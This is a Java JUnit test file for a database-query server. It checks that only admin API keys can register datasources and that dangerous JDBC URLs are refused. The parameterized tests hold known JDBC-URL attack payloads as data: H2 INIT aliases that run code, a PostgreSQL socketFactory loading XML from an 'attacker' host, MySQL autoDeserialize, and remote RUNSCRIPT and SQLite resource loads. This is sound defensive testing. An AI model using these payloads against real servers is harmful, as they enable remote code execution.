package io.askdb.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Registration through the API on a server with API keys: only admin keys change datasources, and
 * registered URLs pass {@link RegisteredUrl} before any connection is opened.
 */
class RegisteredDatasourceApiTest {
    private static final String ADMIN = "admin-key-0123456789abcdef0123456789";
    private static final String READER = "reader-key-0123456789abcdef012345678";

    @TempDir
    static Path dir;
    static ChinookServer chinook;
    static Http admin;
    static Http reader;

    @BeforeAll
    static void start() throws Exception {
        ApiKeys keys = ApiKeys.of(List.of(ADMIN + " role=admin", READER + " customer=2"));
        chinook = ChinookServer.with(dir, new ServerSettings("127.0.0.1", 0, keys, List.of(), 1000,
                "a-test-secret-key-of-32-characters", ServerSettings.DEFAULT_MAX_BODY_BYTES));
        admin = new Http(chinook.base(), "X-API-Key", ADMIN);
        reader = new Http(chinook.base(), "X-API-Key", READER);
    }

    @AfterAll
    static void stop() {
        chinook.close();
    }

    private static HttpResponse<String> register(Http http, String name, String url) throws Exception {
        return http.post("/api/datasources", "{\"name\": \"" + name + "\", \"url\": " + Http.JSON.writeValueAsString(url) + "}");
    }

    private static List<String> names() throws Exception {
        return Http.json(admin.get("/api/datasources")).get("items").findValuesAsText("name");
    }

    @Test
    void should_refuse_with_422_and_run_nothing_when_an_h2_url_creates_an_alias_in_init() throws Exception {
        Path marker = dir.resolve("pwned");
        String url = "jdbc:h2:mem:x4;INIT=CREATE ALIAS SHX AS $$String shx(String c) throws Exception { new java.io.File(c)"
                + ".createNewFile()\\; return c\\; }$$\\;CALL SHX('" + marker + "')";

        HttpResponse<String> response = register(admin, "h2d", url);

        assertThat(response.statusCode()).isEqualTo(422);
        assertThat(response.headers().firstValue("Content-Type")).contains(Problems.CONTENT_TYPE);
        assertThat(Http.json(response).get("code").asText()).isEqualTo("URL_NOT_ALLOWED");
        assertThat(Http.json(response).get("detail").asText()).contains("the setting 'INIT'")
                .contains("register it in the server's configuration (askdb.db) instead, which only the operator controls");
        assertThat(marker).doesNotExist();
        assertThat(names()).containsExactly("chinook");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "jdbc:postgresql://127.0.0.1:1/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
        "jdbc:postgresql://127.0.0.1:1/db?sslmode=require&socketFactoryArg=http://attacker/x.xml",
        "jdbc:postgresql://127.0.0.1:1/db?SSLFACTORY=x.Y", "jdbc:postgresql://127.0.0.1:1/db?sslhostnameverifier=x.Y",
        "jdbc:postgresql://127.0.0.1:1/db?sslpasswordcallback=x.Y",
        "jdbc:postgresql://127.0.0.1:1/db?authenticationPluginClassName=x.Y",
        "jdbc:postgresql://127.0.0.1:1/db?loggerFile=/tmp/x.jsp", "jdbc:postgresql://127.0.0.1:1/db?loggerLevel=DEBUG",
        "jdbc:mysql://127.0.0.1:1/db?autoDeserialize=true", "jdbc:mysql://127.0.0.1:1/db?AllowLoadLocalInfile=true",
        "jdbc:mysql://127.0.0.1:1/db?allowUrlInLocalInfile=true", "jdbc:mysql://127.0.0.1:1/db?queryInterceptors=x.Y",
        "jdbc:mysql://127.0.0.1:1/db?statementInterceptors=x.Y", "jdbc:mysql://127.0.0.1:1/db?exceptionInterceptors=x.Y",
        "jdbc:mysql://127.0.0.1:1/db?connectionLifecycleInterceptors=x.Y", "jdbc:mysql://127.0.0.1:1/db?propertiesTransform=x.Y",
        "jdbc:mariadb://127.0.0.1:1/db?socketFactory=x.Y", "jdbc:mariadb://127.0.0.1:1/db?useSSL=true&autoDeserialize=true"})
    void should_refuse_the_parameter_without_connecting_when_a_server_url_carries_a_dangerous_one(String url) throws Exception {
        String parameter = url.substring(url.lastIndexOf(url.contains("&") ? '&' : '?') + 1).split("=")[0];

        HttpResponse<String> response = register(admin, "remote", url);

        assertThat(response.statusCode()).isEqualTo(422);
        assertThat(Http.json(response).get("code").asText()).isEqualTo("URL_NOT_ALLOWED");
        assertThat(Http.json(response).get("detail").asText()).startsWith("The URL parameter '" + parameter + "' is not allowed")
                .contains("(askdb.db)");
    }

    @ParameterizedTest
    @ValueSource(strings = {"jdbc:mysql://(host=127.0.0.1,port=1,autoDeserialize=true)/db",
        "jdbc:mysql://address=(host=127.0.0.1)(autoDeserialize=true)/db", "jdbc:postgresql://u:p@127.0.0.1:1/db",
        "jdbc:h2:mem:x", "jdbc:h2:tcp://127.0.0.1:1/x;INIT=RUNSCRIPT FROM 'http://a/b.sql'", "jdbc:sqlite::memory:",
        "jdbc:sqlite::resource:http://attacker/x.db", "jdbc:duckdb:md:db", "jdbc:duckdb:", "jdbc:derby:memory:x;create=true",
        "jdbc:sqlserver://127.0.0.1:1"})
    void should_refuse_with_422_when_the_url_is_not_an_allowed_form(String url) throws Exception {
        HttpResponse<String> response = register(admin, "odd", url);

        assertThat(response.statusCode()).isEqualTo(422);
        assertThat(Http.json(response).get("code").asText()).isEqualTo("URL_NOT_ALLOWED");
    }

    @Test
    void should_refuse_a_sqlite_pragma_in_the_url_when_it_enables_extensions() throws Exception {
        Path file = Files.copy(chinook.chinook, dir.resolve("pragma.sqlite"));

        HttpResponse<String> response = register(admin, "pragma", "jdbc:sqlite:" + file + "?enable_load_extension=true");

        assertThat(response.statusCode()).isEqualTo(422);
        assertThat(Http.json(response).get("detail").asText()).contains("parameters after '?' or ';' are not allowed");
    }

    @Test
    void should_register_answer_and_give_a_location_when_an_admin_registers_a_plain_sqlite_file() throws Exception {
        Path file = Files.copy(chinook.chinook, dir.resolve("plain.sqlite"));

        HttpResponse<String> created = register(admin, "plain", "jdbc:sqlite:" + file);
        HttpResponse<String> answer = reader.post("/api/query", "{\"question\": \"How many artists are there?\", \"datasource\": \"plain\"}");
        HttpResponse<String> deletedByReader = reader.delete("/api/datasources/plain");
        HttpResponse<String> deleted = admin.delete("/api/datasources/plain");

        assertThat(created.statusCode()).isEqualTo(201);
        assertThat(created.headers().firstValue("Location")).contains("/api/datasources/plain");
        assertThat(Http.json(answer).get("rows").toString()).isEqualTo("[[275]]");
        assertThat(deletedByReader.statusCode()).isEqualTo(403);
        assertThat(deleted.statusCode()).isEqualTo(204);
    }

    @Test
    void should_answer_403_explaining_role_admin_when_a_key_without_it_registers_or_reindexes() throws Exception {
        Path file = Files.copy(chinook.chinook, dir.resolve("reader.sqlite"));

        HttpResponse<String> created = register(reader, "byreader", "jdbc:sqlite:" + file);
        HttpResponse<String> reindexed = reader.post("/api/datasources/chinook/reindex", "");
        HttpResponse<String> listed = reader.get("/api/datasources");
        HttpResponse<String> schema = reader.get("/api/datasources/chinook/schema");
        HttpResponse<String> reindexedByAdmin = admin.post("/api/datasources/chinook/reindex", "");

        assertThat(created.statusCode()).isEqualTo(403);
        assertThat(Http.json(created).get("code").asText()).isEqualTo("FORBIDDEN");
        assertThat(Http.json(created).get("detail").asText()).contains("Only an admin key may register a datasource")
                .contains("role=admin");
        assertThat(reindexed.statusCode()).isEqualTo(403);
        assertThat(listed.statusCode()).isEqualTo(200);
        assertThat(schema.statusCode()).isEqualTo(200);
        assertThat(reindexedByAdmin.statusCode()).isEqualTo(200);
        assertThat(names()).doesNotContain("byreader");
    }

    @Test
    void should_store_nothing_and_allow_a_retry_when_the_file_is_not_a_database() throws Exception {
        Path file = Files.writeString(dir.resolve("notes.db"), "these are notes, not a database\n".repeat(200));
        List<String> before = names();

        HttpResponse<String> first = register(admin, "notes", "jdbc:sqlite:" + file);
        List<String> after = names();
        HttpResponse<String> retry = register(admin, "notes", "jdbc:sqlite:" + file);
        JsonNode health = Http.json(admin.get("/api/health"));

        assertThat(first.statusCode()).isEqualTo(422);
        assertThat(Http.json(first).get("detail").asText()).startsWith("The datasource 'notes' was not saved: the database at"
                + " jdbc:sqlite:" + file + " could not be opened: ").doesNotContain("--db");
        assertThat(after).isEqualTo(before);
        assertThat(retry.statusCode()).isEqualTo(422);
        assertThat(health.get("ready").asBoolean()).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"jdbc:sqlite:%s/history.sqlite", "%s/history.sqlite", "jdbc:sqlite:%s/./history.sqlite"})
    void should_refuse_the_store_s_own_history_file_when_it_is_registered(String form) throws Exception {
        HttpResponse<String> response = register(admin, "store", String.format(form, dir));

        assertThat(response.statusCode()).isEqualTo(422);
        assertThat(Http.json(response).get("code").asText()).isEqualTo("URL_NOT_ALLOWED");
        assertThat(Http.json(response).get("detail").asText()).contains("is askdb's own store");
    }
}
